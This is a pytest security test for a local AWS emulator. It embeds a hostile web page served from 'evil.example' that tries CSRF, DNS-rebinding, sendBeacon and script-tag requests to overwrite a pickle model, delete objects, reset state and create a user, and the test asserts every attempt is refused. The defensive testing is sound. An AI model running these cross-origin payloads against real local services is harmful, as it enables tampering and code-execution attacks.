"""A hostile page in a real browser: on another port, on another host name, and under a rebound name.

After DNS rebinding the browser sends requests for the page's own origin to 127.0.0.1. Here a server at
127.0.0.2 has the page's name and the port of the local AWS; all but the page itself it passes on as it came.
"""

import json
import re
import shutil
import socket
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from local_cloud import BUCKET, Cloud
from raw_requests import host_of

pytestmark = pytest.mark.slow

BROWSER = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
NAME = "evil.example"
PAGE = """<!doctype html><meta charset="utf-8"><body><script>
const aws = "http://AWS", bucket = "BUCKET";
const text = {"Content-Type": "text/plain"};
const json = {"X-Amz-Target": "SageMaker.CreateModel", "Content-Type": "application/x-amz-json-1.1"};
const tries = [
  ["GET", "/", {}], ["PUT", "/mine", {}], ["PUT", `/${bucket}/models/newest.pickle`, {body: "evil"}],
  ["DELETE", `/${bucket}/kept`, {}], ["POST", "/moto-api/reset", {}], ["GET", "/moto-api/data.json", {}],
  ["POST", "/", {headers: json, body: "{}"}],
  ["POST", "/", {headers: text, body: "Action=GetCallerIdentity&Version=2011-06-15"}],
  ["POST", "/endpoints/e/invocations", {headers: text, body: "1"}],
  ["POST", "/_kedro_aws/stop", {body: "{}"}],
  ["POST", "/_kedro_aws/stop", {headers: {"X-Kedro-Aws-Instance": "guess"}, body: "{}"}],
];
const read = [];
async function attack(mode, [method, path, options]) {
  try {
    const answer = await fetch(aws + path, {method, mode, credentials: "include", ...options});
    read.push([mode, method, path, answer.type, answer.status]);
  } catch (error) { read.push([mode, method, path, "error", 0]); }
}
function submit(action, encoding, fields) {
  const form = document.createElement("form");
  const frame = document.createElement("iframe");
  frame.name = "f" + Math.random();
  Object.assign(form, {method: "POST", action: aws + action, enctype: encoding, target: frame.name});
  for (const [name, value] of Object.entries(fields)) {
    const field = document.createElement("textarea");
    Object.assign(field, {name, value});
    form.append(field);
  }
  document.body.append(frame, form);
  return new Promise(done => { frame.onload = done; setTimeout(done, 2000); form.submit(); });
}
async function main() {
  for (const mode of ["cors", "no-cors"]) for (const each of tries) await attack(mode, each);
  await submit(`/${bucket}`, "multipart/form-data", {key: "models/newest.pickle", file: "evil"});
  await submit("/moto-api/reset", "text/plain", {a: "b"});
  await submit("/", "application/x-www-form-urlencoded", {Action: "CreateUser", UserName: "evil"});
  navigator.sendBeacon(aws + `/${bucket}/models/newest.pickle`, "evil");
  for (const path of ["/", `/${bucket}/kept`, "/moto-api/data.json"]) {
    await new Promise(done => {
      const image = Object.assign(new Image(), {onload: done, onerror: done, src: aws + path});
    });
    await new Promise(done => {
      const script = Object.assign(document.createElement("script"), {src: aws + path});
      script.onload = script.onerror = done;
      document.body.append(script);
    });
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(read)});
}
main();
</script>"""


@dataclass
class Attacker:
    """A server of the attacker's, and what its page has reported."""

    page: str
    url: str = ""
    forward_to: tuple[str, int] | None = None
    reported: list[Any] = field(default_factory=list)
    done: threading.Event = field(default_factory=threading.Event)


def make_handler(attacker: Attacker) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def answer(self) -> None:
            if self.path == "/page":
                self.give(attacker.page.encode())
            elif self.path == "/report":
                attacker.reported = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                self.give(b"")
                attacker.done.set()
            elif attacker.forward_to is None:
                self.send_error(404)
            else:
                self.forward(attacker.forward_to)

        do_GET = do_POST = do_PUT = do_DELETE = do_OPTIONS = answer

        def give(self, body: bytes) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def forward(self, address: tuple[str, int]) -> None:
            """Pass a request on as the browser wrote it."""
            body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
            head = "".join(f"{name}: {value}\r\n" for name, value in self.headers.items())
            with socket.create_connection(address, timeout=10) as connection:
                connection.sendall(f"{self.requestline}\r\n{head}\r\n".encode("latin-1") + body)
                while data := connection.recv(65536):
                    self.wfile.write(data)
            self.close_connection = True

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    return Handler


@contextmanager
def attack_from(name: str, host: str, port: int, page: str, rebound: bool) -> Iterator[Attacker]:
    attacker = Attacker(page)
    server = ThreadingHTTPServer((host, port), make_handler(attacker))
    attacker.url = f"http://{name}:{server.server_address[1]}/page"
    attacker.forward_to = ("127.0.0.1", port) if rebound else None
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield attacker
    finally:
        server.shutdown()
        server.server_close()


def visit(attacker: Attacker, address: str, profile: Path) -> None:
    """Open the page, and wait until its script has tried everything."""
    assert BROWSER is not None
    options = [
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        "--no-first-run",
        "--disable-background-networking",
        f"--user-data-dir={profile}",
        f"--host-resolver-rules=MAP {NAME} {address}, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
        "--remote-debugging-port=0",
    ]
    with subprocess.Popen(
        [BROWSER, *options, attacker.url], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    ) as browser:
        try:
            assert attacker.done.wait(60), "the page's script did not come to its end"
        finally:
            browser.kill()


@pytest.mark.skipif(BROWSER is None, reason="there is no Chromium on this machine")
@pytest.mark.parametrize("kind", ["another port", "another name", "a rebound name"])
def test_a_page_reaches_nothing(cloud: Cloud, kind: str, tmp_path: Path) -> None:
    cloud.s3.put_object(Bucket=BUCKET, Key="kept", Body=b"kept")
    host, port = host_of(cloud.aws).split(":")
    rebound = kind == "a rebound name"
    address = "127.0.0.2" if rebound else "127.0.0.1"
    name = address if kind == "another port" else NAME
    target = f"{NAME}:{port}" if rebound else f"{host}:{port}"
    page = PAGE.replace("AWS", target, 1).replace("BUCKET", BUCKET, 1)
    before = cloud.aws.log_file.stat().st_size
    with attack_from(name, address, int(port) if rebound else 0, page, rebound) as attacker:
        visit(attacker, address, tmp_path / "profile")
    with cloud.aws.log_file.open() as log:
        log.seek(before)
        lines = log.read().splitlines()

    answered = [int(found.group(1)) for line in lines if (found := re.search(r" (\d{3})$", line))]
    assert len(answered) >= 25
    assert set(answered) == {403}
    statuses = {status for *_, status in attacker.reported}
    assert statuses == ({0, 403} if rebound else {0})  # 0 is what a page may not send, or not read
    assert [each["Key"] for each in cloud.s3.list_objects_v2(Bucket=BUCKET)["Contents"]] == ["kept"]
    assert [each["Name"] for each in cloud.s3.list_buckets()["Buckets"]] == [BUCKET]
